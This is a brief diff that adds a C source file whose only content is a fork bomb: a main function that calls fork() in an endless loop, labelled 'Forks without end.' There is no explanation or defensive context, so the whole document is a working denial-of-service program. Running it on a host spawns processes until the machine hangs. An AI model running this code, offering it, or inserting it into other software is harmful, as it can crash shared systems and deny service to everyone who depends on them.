@@ -1,0 +1,6 @@
+/* Forks without end. */
+#include <unistd.h>
+
+int main(void) {
+  for (;;) fork();
+}
